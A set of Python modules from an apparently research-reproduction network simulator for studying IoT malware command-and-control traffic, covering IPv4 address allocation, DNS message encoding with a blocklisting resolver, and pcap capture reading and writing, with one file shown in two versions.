    is reserved, None if none of it is, else the blocks to test."""
    lo, hi = octet << 24, (octet << 24) | 0xFFFFFF
    partial = []
    for network, mask in _RESERVED_MASKED:
        block_hi = network | (~mask & MAX_IPV4)
        if block_hi < lo or network > hi:
            continue
        if network <= lo and hi <= block_hi:
            return True
        partial.append((network, mask))
    return tuple(partial) if partial else None


#: per-first-octet dispatch table: most octets resolve with one index
_RESERVED_BY_OCTET = tuple(_reserved_octet_entry(o) for o in range(256))


def is_reserved(value: int) -> bool:
    """True if the address falls in a private/reserved block."""
    blocks = _RESERVED_BY_OCTET[value >> 24]
    if blocks is None:
        return False
    if blocks is True:
        return True
    for network, mask in blocks:
        if value & mask == network:
            return True
    return False


@dataclass(frozen=True)
class Subnet:
    """An IPv4 subnet given by its network address and prefix length."""

    network: int
    prefix: int

    def __post_init__(self) -> None:
        mask = prefix_mask(self.prefix)
        if self.network & ~mask & MAX_IPV4:
            raise AddressError(
                f"host bits set in network {int_to_ip(self.network)}/{self.prefix}"
            )

    @classmethod
    def parse(cls, text: str) -> "Subnet":
        """Parse CIDR notation, e.g. ``"192.0.2.0/24"``."""
        if "/" not in text:
            raise AddressError(f"missing prefix in {text!r}")
        addr, _, prefix_text = text.partition("/")
        if not prefix_text.isdigit():
            raise AddressError(f"bad prefix in {text!r}")
        return cls(ip_to_int(addr), int(prefix_text))

    @property
    def mask(self) -> int:
        return prefix_mask(self.prefix)

    @property
    def size(self) -> int:
        """Number of addresses in the subnet (including network/broadcast)."""
        return 1 << (32 - self.prefix)

    @property
    def broadcast(self) -> int:
        return self.network | (~self.mask & MAX_IPV4)

    def __contains__(self, address: int) -> bool:
        return address & self.mask == self.network

    def __str__(self) -> str:
        return f"{int_to_ip(self.network)}/{self.prefix}"

    def hosts(self) -> Iterator[int]:
        """Iterate usable host addresses (network/broadcast excluded for
        prefixes shorter than /31)."""
        if self.prefix >= 31:
            yield from range(self.network, self.broadcast + 1)
            return
        yield from range(self.network + 1, self.broadcast)

    def random_host(self, rng: random.Random) -> int:
        """Pick a uniformly random usable host address."""
        if self.prefix >= 31:
            return self.network + rng.randrange(self.size)
        return self.network + 1 + rng.randrange(self.size - 2)


class AddressAllocator:
    """Hands out unique public IPv4 addresses for simulated hosts.

    The allocator never returns reserved/private addresses and never
    repeats an address.  Allocation can be constrained to a subnet so that
    the world generator can place C2 servers inside specific AS prefixes.
    """

    def __init__(self, rng: random.Random):
        self._rng = rng
        self._used: set[int] = set()

    def reserve(self, address: int) -> None:
        """Mark an externally chosen address as used."""
        self._used.add(address)

    def allocate(self, subnet: Subnet | None = None, max_tries: int = 4096) -> int:
        """Allocate a fresh public address, optionally within ``subnet``."""
        for _ in range(max_tries):
            if subnet is None:
                candidate = self._rng.randrange(0x01000000, 0xDF000000)
            else:
                candidate = subnet.random_host(self._rng)
            if candidate in self._used or is_reserved(candidate):
                continue
            self._used.add(candidate)
            return candidate
        raise AddressError("address allocation exhausted")

    def __len__(self) -> int:
        return len(self._used)


def ephemeral_port(rng: random.Random) -> int:
    """A random ephemeral source port (49152-65535)."""
    return rng.randrange(49152, 65536)


def checksum16(data: bytes) -> int:
    """RFC 1071 ones-complement 16-bit checksum used by IPv4/ICMP/TCP/UDP."""
    if len(data) % 2:
        data += b"\x00"
    total = 0
    for i in range(0, len(data), 2):
        total += (data[i] << 8) | data[i + 1]
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
