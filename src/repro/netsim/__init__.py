"""Network simulation substrate: packets, pcap, TCP, DNS, flows, Internet."""

from .addresses import (
    AddressAllocator,
    AddressError,
    Subnet,
    checksum16,
    ephemeral_port,
    int_to_ip,
    ip_to_int,
    is_reserved,
)
from .capture import Capture, CaptureError, PcapReader, PcapWriter
from .dns import DnsQuery, DnsResponse, Resolver
from .flows import Flow, FlowKey, FlowTable
from .internet import (
    ClientSession,
    Host,
    Listener,
    SECONDS_PER_DAY,
    STUDY_EPOCH,
    ServerSession,
    SimClock,
    VirtualInternet,
)
from .packet import (
    Packet,
    PacketError,
    Protocol,
    TcpFlags,
    decode_packet,
    encode_packet,
    icmp_packet,
    tcp_packet,
    udp_packet,
)
from .tcp import TcpConnection, TcpError, TcpState, handshake_pair

__all__ = [
    "AddressAllocator",
    "AddressError",
    "Capture",
    "CaptureError",
    "ClientSession",
    "DnsQuery",
    "DnsResponse",
    "Flow",
    "FlowKey",
    "FlowTable",
    "Host",
    "Listener",
    "Packet",
    "PacketError",
    "PcapReader",
    "PcapWriter",
    "Protocol",
    "Resolver",
    "SECONDS_PER_DAY",
    "STUDY_EPOCH",
    "ServerSession",
    "SimClock",
    "Subnet",
    "TcpConnection",
    "TcpError",
    "TcpFlags",
    "TcpState",
    "VirtualInternet",
    "checksum16",
    "decode_packet",
    "encode_packet",
    "ephemeral_port",
    "handshake_pair",
    "icmp_packet",
    "int_to_ip",
    "ip_to_int",
    "is_reserved",
    "tcp_packet",
    "udp_packet",
]
