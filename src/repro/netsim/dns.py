"""DNS wire format (A queries/responses) and an authoritative resolver.

IoT C2 addresses in the paper are either raw IPs or DNS names; DNS-named
C2s get their own lifetime CDF (Figure 3) and a markedly worse TI miss
rate (Table 3).  The sandbox's fake Internet (InetSim) also answers DNS so
that binaries with domain-based configs can activate offline.

The encoder/decoder covers the subset the study needs: QR/opcode/RCODE
header bits, QNAME compression-free encoding, A-record answers with TTLs,
and NXDOMAIN responses.
"""

from __future__ import annotations

import random
import struct
from dataclasses import dataclass, field

QTYPE_A = 1
QCLASS_IN = 1
RCODE_NOERROR = 0
RCODE_SERVFAIL = 2
RCODE_NXDOMAIN = 3

_HEADER = struct.Struct("!HHHHHH")


class DnsError(ValueError):
    """Raised for malformed DNS messages or names."""


def encode_name(name: str) -> bytes:
    """Encode a domain name as DNS labels (no compression)."""
    if name.endswith("."):
        name = name[:-1]
    if not name:
        raise DnsError("empty domain name")
    out = bytearray()
    for label in name.split("."):
        try:
            raw = label.encode("ascii")
        except UnicodeEncodeError:
            raise DnsError(f"non-ASCII label in {name!r}") from None
        if not 1 <= len(raw) <= 63:
            raise DnsError(f"bad label in {name!r}")
        out.append(len(raw))
        out.extend(raw)
    out.append(0)
    if len(out) > 255:
        raise DnsError(f"name too long: {name!r}")
    return bytes(out)


def decode_name(data: bytes, offset: int) -> tuple[str, int]:
    """Decode a label sequence at ``offset``; returns (name, next_offset)."""
    labels: list[str] = []
    while True:
        if offset >= len(data):
            raise DnsError("truncated name")
        length = data[offset]
        offset += 1
        if length == 0:
            break
        if length > 63:
            raise DnsError("compression pointers not supported")
        if offset + length > len(data):
            raise DnsError("truncated label")
        try:
            labels.append(data[offset : offset + length].decode("ascii"))
        except UnicodeDecodeError:
            raise DnsError("non-ASCII label on the wire") from None
        offset += length
    return ".".join(labels), offset


@dataclass
class DnsQuery:
    """A single-question A query."""

    transaction_id: int
    name: str

    def encode(self) -> bytes:
        header = _HEADER.pack(self.transaction_id, 0x0100, 1, 0, 0, 0)
        return header + encode_name(self.name) + struct.pack("!HH", QTYPE_A, QCLASS_IN)


@dataclass
class DnsResponse:
    """A response carrying zero or more A records for one question."""

    transaction_id: int
    name: str
    addresses: list[int] = field(default_factory=list)
    rcode: int = RCODE_NOERROR
    ttl: int = 300

    @property
    def is_nxdomain(self) -> bool:
        return self.rcode == RCODE_NXDOMAIN

    def encode(self) -> bytes:
        flags = 0x8180 | (self.rcode & 0xF)
        header = _HEADER.pack(
            self.transaction_id, flags, 1, len(self.addresses), 0, 0
        )
        question = encode_name(self.name) + struct.pack("!HH", QTYPE_A, QCLASS_IN)
        answers = bytearray()
        for address in self.addresses:
            answers += encode_name(self.name)
            answers += struct.pack("!HHIH", QTYPE_A, QCLASS_IN, self.ttl, 4)
            answers += struct.pack("!I", address)
        return header + question + bytes(answers)


def decode_message(data: bytes) -> DnsQuery | DnsResponse:
    """Decode a DNS message into a query or response object."""
    if len(data) < _HEADER.size:
        raise DnsError("short DNS header")
    txid, flags, qdcount, ancount, _ns, _ar = _HEADER.unpack(data[: _HEADER.size])
    if qdcount != 1:
        raise DnsError(f"expected one question, got {qdcount}")
    name, offset = decode_name(data, _HEADER.size)
    if offset + 4 > len(data):
        raise DnsError("truncated question")
    qtype, qclass = struct.unpack("!HH", data[offset : offset + 4])
    offset += 4
    if (qtype, qclass) != (QTYPE_A, QCLASS_IN):
        raise DnsError(f"unsupported question type {qtype}/{qclass}")
    if not flags & 0x8000:
        return DnsQuery(txid, name)
    response = DnsResponse(txid, name, rcode=flags & 0xF)
    for _ in range(ancount):
        _rrname, offset = decode_name(data, offset)
        if offset + 10 > len(data):
            raise DnsError("truncated answer")
        rtype, rclass, ttl, rdlength = struct.unpack("!HHIH", data[offset : offset + 10])
        offset += 10
        if offset + rdlength > len(data):
            raise DnsError("truncated rdata")
        rdata = data[offset : offset + rdlength]
        offset += rdlength
        if (rtype, rclass) == (QTYPE_A, QCLASS_IN):
            if rdlength != 4:
                raise DnsError("bad A rdata length")
            response.addresses.append(struct.unpack("!I", rdata)[0])
            response.ttl = ttl
    return response


class Resolver:
    """Authoritative name store for the virtual Internet.

    Registrations may change over time (C2 operators re-point domains when
    a server is taken down), so lookups take the simulation time and the
    store keeps a history of bindings per name.
    """

    #: every lookup ends in exactly one of these outcomes
    OUTCOMES = ("resolved", "nxdomain", "servfail", "blocked")

    def __init__(self) -> None:
        #: name -> list of (effective_from_time, address or None)
        self._zones: dict[str, list[tuple[float, int | None]]] = {}
        #: optional fault injector (repro.netsim.faults); transient
        #: SERVFAIL slots make resolution retryable rather than absent
        self.faults = None
        #: optional in-line defender (repro.defense.DnsDefense): observes
        #: registrations, scores names, and vetoes blocklisted lookups
        self.defense = None
        self._metrics: tuple | None = None

    def bind_metrics(self, metrics) -> None:
        """Attach per-query counters to an obs metrics registry.

        Every query is counted exactly once under its outcome — including
        SERVFAIL fault slots and defender-blocked lookups, which earlier
        code paths dropped entirely (only successes were visible).
        """
        queries = metrics.counter(
            "dns_queries_total",
            "resolver queries by outcome",
            labelnames=("outcome",),
        )
        for outcome in self.OUTCOMES:
            queries.labels(outcome=outcome)
        self._metrics = (
            queries,
            metrics.counter(
                "dns_blocked_total",
                "queries denied by the defender blocklist",
            ),
            metrics.counter(
                "dga_domains_total",
                "queries for names the defender scores as machine-generated",
            ),
        )

    def register(self, name: str, address: int | None, since: float = 0.0) -> None:
        """Bind ``name`` to ``address`` (None = withdrawn) from ``since``."""
        history = self._zones.setdefault(name.lower(), [])
        history.append((since, address))
        history.sort(key=lambda item: item[0])
        if self.defense is not None and address is not None:
            self.defense.observe_registration(name, since)

    def _lookup(self, name: str, now: float) -> tuple[int | None, str]:
        """Resolution plus its outcome; callers count exactly once."""
        if self.defense is not None:
            if self._metrics is not None and self.defense.is_dga(name):
                self._metrics[2].inc()
            if self.defense.blocked(name, now):
                return None, "blocked"
        if self.faults is not None and self.faults.dns_servfail(name, now):
            return None, "servfail"
        history = self._zones.get(name.lower())
        current: int | None = None
        for since, address in history or ():
            if since > now:
                break
            current = address
        return current, ("resolved" if current is not None else "nxdomain")

    def _count(self, outcome: str) -> None:
        if self._metrics is None:
            return
        queries, blocked, _dga = self._metrics
        queries.labels(outcome=outcome).inc()
        if outcome == "blocked":
            blocked.inc()

    def resolve(self, name: str, now: float = 0.0) -> int | None:
        """Current A record for ``name`` at simulation time ``now``.

        A withdrawal registered at ``t`` takes effect *at* ``t`` (``since >
        now`` keeps the newer binding), so server lifetimes are
        end-exclusive: resolving at exactly ``online_until`` already sees
        the takedown.
        """
        address, outcome = self._lookup(name, now)
        self._count(outcome)
        return address

    def answer(self, query: DnsQuery, now: float = 0.0) -> DnsResponse:
        """Build the wire response for a query."""
        address, outcome = self._lookup(query.name, now)
        self._count(outcome)
        if outcome == "servfail":
            return DnsResponse(query.transaction_id, query.name,
                               rcode=RCODE_SERVFAIL)
        if address is None:
            # blocklisted names are sinkholed RPZ-style as NXDOMAIN
            return DnsResponse(query.transaction_id, query.name, rcode=RCODE_NXDOMAIN)
        return DnsResponse(query.transaction_id, query.name, [address])

    def known_names(self) -> list[str]:
        return sorted(self._zones)


def random_transaction_id(rng: random.Random) -> int:
    return rng.randrange(0, 0x10000)
