"""pcap (v2.4) capture files and in-memory traffic captures.

The sandbox records malware traffic exactly like the paper's setup: as pcap
files.  :class:`PcapWriter`/:class:`PcapReader` implement the classic
libpcap file format (magic ``0xa1b2c3d4``, microsecond resolution) with
``LINKTYPE_RAW`` (101), i.e. each record is a bare IPv4 datagram as encoded
by :mod:`repro.netsim.packet`.

:class:`Capture` is the in-memory view used by the analysis code; it can be
persisted to a pcap byte string and reloaded losslessly.
"""

from __future__ import annotations

import struct
from typing import BinaryIO, Iterable, Iterator

from .packet import Packet, Protocol, decode_packet, encode_packet

PCAP_MAGIC = 0xA1B2C3D4
PCAP_VERSION_MAJOR = 2
PCAP_VERSION_MINOR = 4
LINKTYPE_RAW = 101
DEFAULT_SNAPLEN = 65535

_GLOBAL_HEADER = struct.Struct("!IHHiIII")
_RECORD_HEADER = struct.Struct("!IIII")


class CaptureError(ValueError):
    """Raised for malformed pcap data."""


class PcapWriter:
    """Incremental pcap writer over any binary file object."""

    def __init__(self, stream: BinaryIO, snaplen: int = DEFAULT_SNAPLEN):
        self._stream = stream
        self._snaplen = snaplen
        stream.write(
            _GLOBAL_HEADER.pack(
                PCAP_MAGIC,
                PCAP_VERSION_MAJOR,
                PCAP_VERSION_MINOR,
                0,              # thiszone
                0,              # sigfigs
                snaplen,
                LINKTYPE_RAW,
            )
        )
        self.count = 0

    def write(self, pkt: Packet) -> None:
        """Append one packet; its ``timestamp`` becomes the record time."""
        data = encode_packet(pkt)
        captured = data[: self._snaplen]
        seconds = int(pkt.timestamp)
        micros = int(round((pkt.timestamp - seconds) * 1_000_000))
        if micros >= 1_000_000:
            seconds += 1
            micros -= 1_000_000
        self._stream.write(
            _RECORD_HEADER.pack(seconds, micros, len(captured), len(data))
        )
        self._stream.write(captured)
        self.count += 1

    def write_all(self, packets: Iterable[Packet]) -> None:
        for pkt in packets:
            self.write(pkt)


class PcapReader:
    """Iterates :class:`Packet` records out of a pcap stream."""

    def __init__(self, stream: BinaryIO):
        self._stream = stream
        header = stream.read(_GLOBAL_HEADER.size)
        if len(header) != _GLOBAL_HEADER.size:
            raise CaptureError("truncated pcap global header")
        magic, major, minor, _tz, _sig, self.snaplen, linktype = _GLOBAL_HEADER.unpack(header)
        if magic != PCAP_MAGIC:
            raise CaptureError(f"bad pcap magic: {magic:#x}")
        if (major, minor) != (PCAP_VERSION_MAJOR, PCAP_VERSION_MINOR):
            raise CaptureError(f"unsupported pcap version {major}.{minor}")
        if linktype != LINKTYPE_RAW:
            raise CaptureError(f"unsupported linktype {linktype}")

    def __iter__(self) -> Iterator[Packet]:
        while True:
            header = self._stream.read(_RECORD_HEADER.size)
            if not header:
                return
            if len(header) != _RECORD_HEADER.size:
                raise CaptureError("truncated pcap record header")
            seconds, micros, incl_len, orig_len = _RECORD_HEADER.unpack(header)
            data = self._stream.read(incl_len)
            if len(data) != incl_len:
                raise CaptureError("truncated pcap record body")
            if incl_len != orig_len:
                raise CaptureError("snapped records are not supported")
            yield decode_packet(data, timestamp=seconds + micros / 1_000_000)


class Capture:
    """An ordered, timestamped packet capture plus query helpers.

    Recording supports two speeds.  :meth:`add` appends a materialized
    :class:`Packet`.  :meth:`add_deferred` appends only a builder and its
    arguments — the scan hot path records tens of thousands of SYNs that
    are usually never read (C2 detection runs on the earlier part of the
    trace), so the ``Packet`` objects are built lazily, in recording
    order and with the timestamps fixed at record time, the first time
    :attr:`packets` is actually read.  Either way the observable packet
    list is identical; laziness only moves the construction cost.
    """

    __slots__ = ("_packets", "_deferred", "label")

    def __init__(self, packets: list[Packet] | None = None, label: str = ""):
        self._packets: list[Packet] = packets if packets is not None else []
        self._deferred: list[tuple] = []
        self.label = label

    @property
    def packets(self) -> list[Packet]:
        if self._deferred:
            self._materialize()
        return self._packets

    @packets.setter
    def packets(self, packets: list[Packet]) -> None:
        self._packets = packets
        self._deferred.clear()

    def _materialize(self) -> None:
        append = self._packets.append
        for build, args in self._deferred:
            append(build(*args))
        self._deferred.clear()

    def add(self, pkt: Packet) -> None:
        if self._deferred:
            self._materialize()
        self._packets.append(pkt)

    def add_deferred(self, build, args: tuple) -> None:
        """Record ``build(*args)`` without constructing the packet yet."""
        self._deferred.append((build, args))

    def extend(self, packets: Iterable[Packet]) -> None:
        if self._deferred:
            self._materialize()
        self._packets.extend(packets)

    def __len__(self) -> int:
        return len(self._packets) + len(self._deferred)

    def __iter__(self) -> Iterator[Packet]:
        return iter(self.packets)

    def __getitem__(self, index: int) -> Packet:
        return self.packets[index]

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, Capture):
            return NotImplemented
        return self.label == other.label and self.packets == other.packets

    def __repr__(self) -> str:
        return (f"Capture(packets=<{len(self)} packets>, "
                f"label={self.label!r})")

    # deferred builders may close over live objects; pickles carry the
    # materialized list so they stay self-contained
    def __getstate__(self):
        return (self.packets, self.label)

    def __setstate__(self, state) -> None:
        self._packets, self.label = state
        self._deferred = []

    # -- queries -----------------------------------------------------------

    def between(self, start: float, end: float) -> "Capture":
        """Packets with ``start <= timestamp < end``."""
        return Capture(
            [p for p in self.packets if start <= p.timestamp < end], self.label
        )

    def involving(self, address: int) -> "Capture":
        """Packets where ``address`` is source or destination."""
        return Capture(
            [p for p in self.packets if address in (p.src, p.dst)], self.label
        )

    def to_host(self, address: int) -> "Capture":
        return Capture([p for p in self.packets if p.dst == address], self.label)

    def from_host(self, address: int) -> "Capture":
        return Capture([p for p in self.packets if p.src == address], self.label)

    def by_protocol(self, protocol: Protocol) -> "Capture":
        return Capture(
            [p for p in self.packets if p.protocol == protocol], self.label
        )

    def destinations(self) -> set[int]:
        return {p.dst for p in self.packets}

    def destination_ports(self, protocol: Protocol | None = None) -> dict[int, int]:
        """Map of destination port -> packet count."""
        counts: dict[int, int] = {}
        for p in self.packets:
            if protocol is not None and p.protocol != protocol:
                continue
            counts[p.dport] = counts.get(p.dport, 0) + 1
        return counts

    def duration(self) -> float:
        if not self.packets:
            return 0.0
        times = [p.timestamp for p in self.packets]
        return max(times) - min(times)

    def total_bytes(self) -> int:
        return sum(p.size for p in self.packets)

    def packets_per_second(self) -> float:
        """Mean packet rate across the capture (0 for <2 packets)."""
        span = self.duration()
        if span <= 0:
            return 0.0
        return len(self.packets) / span

    # -- persistence ---------------------------------------------------------

    def to_pcap_bytes(self) -> bytes:
        import io

        buf = io.BytesIO()
        writer = PcapWriter(buf)
        writer.write_all(self.packets)
        return buf.getvalue()

    def save(self, path: str) -> None:
        with open(path, "wb") as fh:
            fh.write(self.to_pcap_bytes())

    @classmethod
    def from_pcap_bytes(cls, data: bytes, label: str = "") -> "Capture":
        import io

        reader = PcapReader(io.BytesIO(data))
        return cls(list(reader), label)

    @classmethod
    def load(cls, path: str) -> "Capture":
        with open(path, "rb") as fh:
            return cls.from_pcap_bytes(fh.read(), label=path)
