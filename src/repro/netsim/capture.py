"""pcap (v2.4) capture files and in-memory traffic captures.

The sandbox records malware traffic exactly like the paper's setup: as pcap
files.  :class:`PcapWriter`/:class:`PcapReader` implement the classic
libpcap file format (magic ``0xa1b2c3d4``, microsecond resolution) with
``LINKTYPE_RAW`` (101), i.e. each record is a bare IPv4 datagram as encoded
by :mod:`repro.netsim.packet`.

:class:`Capture` is the in-memory view used by the analysis code; it can be
persisted to a pcap byte string and reloaded losslessly.
"""

from __future__ import annotations

import struct
from array import array
from typing import BinaryIO, Iterable, Iterator

from .packet import (
    DEFAULT_TTL,
    Packet,
    Protocol,
    TcpFlags,
    decode_packet,
    encode_packet,
)

PCAP_MAGIC = 0xA1B2C3D4
PCAP_VERSION_MAJOR = 2
PCAP_VERSION_MINOR = 4
LINKTYPE_RAW = 101
DEFAULT_SNAPLEN = 65535

_GLOBAL_HEADER = struct.Struct("!IHHiIII")
_RECORD_HEADER = struct.Struct("!IIII")


class CaptureError(ValueError):
    """Raised for malformed pcap data."""


class PcapWriter:
    """Incremental pcap writer over any binary file object."""

    def __init__(self, stream: BinaryIO, snaplen: int = DEFAULT_SNAPLEN):
        self._stream = stream
        self._snaplen = snaplen
        stream.write(
            _GLOBAL_HEADER.pack(
                PCAP_MAGIC,
                PCAP_VERSION_MAJOR,
                PCAP_VERSION_MINOR,
                0,              # thiszone
                0,              # sigfigs
                snaplen,
                LINKTYPE_RAW,
            )
        )
        self.count = 0

    def write(self, pkt: Packet) -> None:
        """Append one packet; its ``timestamp`` becomes the record time."""
        data = encode_packet(pkt)
        captured = data[: self._snaplen]
        seconds = int(pkt.timestamp)
        micros = int(round((pkt.timestamp - seconds) * 1_000_000))
        if micros >= 1_000_000:
            seconds += 1
            micros -= 1_000_000
        self._stream.write(
            _RECORD_HEADER.pack(seconds, micros, len(captured), len(data))
        )
        self._stream.write(captured)
        self.count += 1

    def write_all(self, packets: Iterable[Packet]) -> None:
        for pkt in packets:
            self.write(pkt)


class PcapReader:
    """Iterates :class:`Packet` records out of a pcap stream."""

    def __init__(self, stream: BinaryIO):
        self._stream = stream
        header = stream.read(_GLOBAL_HEADER.size)
        if len(header) != _GLOBAL_HEADER.size:
            raise CaptureError("truncated pcap global header")
        magic, major, minor, _tz, _sig, self.snaplen, linktype = _GLOBAL_HEADER.unpack(header)
        if magic != PCAP_MAGIC:
            raise CaptureError(f"bad pcap magic: {magic:#x}")
        if (major, minor) != (PCAP_VERSION_MAJOR, PCAP_VERSION_MINOR):
            raise CaptureError(f"unsupported pcap version {major}.{minor}")
        if linktype != LINKTYPE_RAW:
            raise CaptureError(f"unsupported linktype {linktype}")

    def __iter__(self) -> Iterator[Packet]:
        while True:
            header = self._stream.read(_RECORD_HEADER.size)
            if not header:
                return
            if len(header) != _RECORD_HEADER.size:
                raise CaptureError("truncated pcap record header")
            seconds, micros, incl_len, orig_len = _RECORD_HEADER.unpack(header)
            data = self._stream.read(incl_len)
            if len(data) != incl_len:
                raise CaptureError("truncated pcap record body")
            if incl_len != orig_len:
                raise CaptureError("snapped records are not supported")
            yield decode_packet(data, timestamp=seconds + micros / 1_000_000)


#: materialized Protocol / TcpFlags singletons per raw column value, so a
#: lazily built packet carries the same enum objects an eager one would
_PROTOCOL_OF = {int(member): member for member in Protocol}
_FLAGS_CACHE: dict[int, TcpFlags] = {}


def _flags_of(value: int, _cache=_FLAGS_CACHE) -> TcpFlags:
    flags = _cache.get(value)
    if flags is None:
        flags = _cache[value] = TcpFlags(value)
    return flags


def _row_size(protocol: Protocol, payload: bytes) -> int:
    """On-the-wire datagram length; mirrors :attr:`Packet.size` exactly."""
    if protocol == Protocol.TCP:
        return 40 + len(payload)   # 20 IPv4 + 20 TCP
    return 28 + len(payload)       # 20 IPv4 + 8 UDP/ICMP


#: cumulative columnar-store activity for this process; the pipeline
#: snapshots a baseline and publishes deltas as the telemetry counter
#: ``capture_columnar_total{event=rows|built}`` — ``rows`` counts packets
#: recorded without constructing an object, ``built`` counts the subset
#: later materialized because a trace was actually read
COLUMN_STATS = {"rows": 0, "built": 0}


def columnar_stats() -> dict[str, int]:
    """A point-in-time copy of the process-wide columnar-store activity."""
    return dict(COLUMN_STATS)


class PacketColumns:
    """Array-backed parallel columns holding not-yet-built packets.

    One logical packet per index across thirteen columns (typed
    :class:`array.array` for every numeric field, a plain list for the
    payload bytes).  Appends land in a staged row buffer first — one
    tuple per packet, the cheapest possible record — and are transposed
    into the arrays in bulk the first time anything *reads* the store
    (:meth:`iter_rows`, :meth:`build_into`, pickling).  The scan-phase
    common case — thousands of packets recorded, never read — therefore
    pays neither object construction nor thirteen array appends per row.
    :meth:`build_into` reconstructs :class:`Packet` objects that are
    field-for-field identical to eager construction, including the
    ``Protocol``/``TcpFlags`` enum types.
    """

    __slots__ = ("ts", "src", "dst", "sport", "dport", "proto", "flags",
                 "seq", "ack", "ttl", "icmp_type", "icmp_code", "payload",
                 "_staged")

    def __init__(self):
        self.ts = array("d")
        self.src = array("Q")
        self.dst = array("Q")
        self.sport = array("H")
        self.dport = array("H")
        self.proto = array("B")
        self.flags = array("B")
        self.seq = array("Q")
        self.ack = array("Q")
        self.ttl = array("B")
        self.icmp_type = array("B")
        self.icmp_code = array("B")
        self.payload: list[bytes] = []
        #: rows recorded but not yet transposed into the arrays; each is
        #: the full 13-field column tuple in array order
        self._staged: list[tuple] = []

    def __len__(self) -> int:
        return len(self.ts) + len(self._staged)

    def append_tcp(self, src: int, dst: int, sport: int, dport: int,
                   flags: int, payload: bytes, seq: int, ack: int,
                   timestamp: float) -> None:
        self._staged.append((timestamp, src, dst, sport, dport, 6, flags,
                             seq, ack, DEFAULT_TTL, 0, 0, payload))
        COLUMN_STATS["rows"] += 1

    def append_udp(self, src: int, dst: int, sport: int, dport: int,
                   payload: bytes, timestamp: float) -> None:
        self._staged.append((timestamp, src, dst, sport, dport, 17, 0,
                             0, 0, DEFAULT_TTL, 0, 0, payload))
        COLUMN_STATS["rows"] += 1

    def append_packet(self, pkt: Packet) -> None:
        """Decompose an existing packet into one columnar row."""
        self._staged.append((pkt.timestamp, pkt.src, pkt.dst, pkt.sport,
                             pkt.dport, int(pkt.protocol), int(pkt.flags),
                             pkt.seq, pkt.ack, pkt.ttl, pkt.icmp_type,
                             pkt.icmp_code, pkt.payload))
        COLUMN_STATS["rows"] += 1

    def _flush(self) -> None:
        """Transpose staged rows into the typed arrays (one bulk pass)."""
        if not self._staged:
            return
        cols = list(zip(*self._staged))
        self._staged = []
        self.ts.extend(cols[0])
        self.src.extend(cols[1])
        self.dst.extend(cols[2])
        self.sport.extend(cols[3])
        self.dport.extend(cols[4])
        self.proto.extend(cols[5])
        self.flags.extend(map(int, cols[6]))
        self.seq.extend(cols[7])
        self.ack.extend(cols[8])
        self.ttl.extend(cols[9])
        self.icmp_type.extend(cols[10])
        self.icmp_code.extend(cols[11])
        self.payload.extend(cols[12])

    def iter_rows(self) -> Iterator[tuple]:
        """Rows in :class:`Packet` field order, without building objects."""
        self._flush()
        return zip(self.src, self.dst,
                   map(_PROTOCOL_OF.__getitem__, self.proto),
                   self.sport, self.dport, self.payload,
                   map(_flags_of, self.flags),
                   self.seq, self.ack, self.ttl,
                   self.icmp_type, self.icmp_code, self.ts)

    def build_into(self, out: list[Packet]) -> None:
        """Materialize every row as a :class:`Packet`, appending to ``out``."""
        append = out.append
        for row in self.iter_rows():
            append(Packet(*row))
        COLUMN_STATS["built"] += len(self.ts)

    # arrays pickle compactly; shard results carry columns as columns so
    # laziness survives the worker -> parent hop
    def __getstate__(self):
        self._flush()
        return (self.ts, self.src, self.dst, self.sport, self.dport,
                self.proto, self.flags, self.seq, self.ack, self.ttl,
                self.icmp_type, self.icmp_code, self.payload)

    def __setstate__(self, state) -> None:
        (self.ts, self.src, self.dst, self.sport, self.dport,
         self.proto, self.flags, self.seq, self.ack, self.ttl,
         self.icmp_type, self.icmp_code, self.payload) = state
        self._staged = []


class Capture:
    """An ordered, timestamped packet capture plus query helpers.

    Recording supports two speeds.  :meth:`add` appends a materialized
    :class:`Packet` — callers that keep a reference to the object (the
    live path re-stamps timestamps after recording) get shared-object
    semantics.  :meth:`add_tcp` / :meth:`add_udp` append one row to an
    array-backed columnar tail (:class:`PacketColumns`) without building
    a ``Packet`` at all — the scan and fake-Internet hot paths record
    tens of thousands of packets that are usually never read as objects.
    Field-level readers (:meth:`iter_rows` and the scalar queries) consume
    the columns directly; ``Packet`` objects are built only if
    :attr:`packets` is actually read, in recording order and with the
    timestamps fixed at record time.  Either way the observable packet
    list is identical; the columnar tail only removes construction cost
    for packets nobody reads.
    """

    __slots__ = ("_packets", "_cols", "label")

    def __init__(self, packets: list[Packet] | None = None, label: str = ""):
        self._packets: list[Packet] = packets if packets is not None else []
        self._cols: PacketColumns | None = None
        self.label = label

    @property
    def packets(self) -> list[Packet]:
        if self._cols is not None:
            self._materialize()
        return self._packets

    @packets.setter
    def packets(self, packets: list[Packet]) -> None:
        self._packets = packets
        self._cols = None

    def _materialize(self) -> None:
        cols = self._cols
        self._cols = None
        if cols is not None and len(cols):
            cols.build_into(self._packets)

    def _tail(self) -> PacketColumns:
        cols = self._cols
        if cols is None:
            cols = self._cols = PacketColumns()
        return cols

    def add(self, pkt: Packet) -> None:
        if self._cols is not None:
            self._materialize()
        self._packets.append(pkt)

    def add_tcp(self, src: int, dst: int, sport: int, dport: int,
                flags: int, payload: bytes = b"", seq: int = 0,
                ack: int = 0, timestamp: float = 0.0) -> None:
        """Record a TCP packet as a columnar row (no object built)."""
        cols = self._cols
        if cols is None:
            cols = self._cols = PacketColumns()
        cols.append_tcp(src, dst, sport, dport, flags, payload,
                        seq, ack, timestamp)

    def add_udp(self, src: int, dst: int, sport: int, dport: int,
                payload: bytes = b"", timestamp: float = 0.0) -> None:
        """Record a UDP packet as a columnar row (no object built)."""
        cols = self._cols
        if cols is None:
            cols = self._cols = PacketColumns()
        cols.append_udp(src, dst, sport, dport, payload, timestamp)

    def extend(self, packets: Iterable[Packet]) -> None:
        if self._cols is not None:
            self._materialize()
        self._packets.extend(packets)

    def __len__(self) -> int:
        cols = self._cols
        return len(self._packets) + (len(cols) if cols is not None else 0)

    def __iter__(self) -> Iterator[Packet]:
        return iter(self.packets)

    def __getitem__(self, index: int) -> Packet:
        return self.packets[index]

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, Capture):
            return NotImplemented
        return self.label == other.label and self.packets == other.packets

    def __repr__(self) -> str:
        return (f"Capture(packets=<{len(self)} packets>, "
                f"label={self.label!r})")

    # pickles carry the columnar tail as columns (arrays serialize far
    # smaller than Packet objects), so shard transport stays lazy; the
    # legacy (packets, label) shape is still accepted on load
    def __getstate__(self):
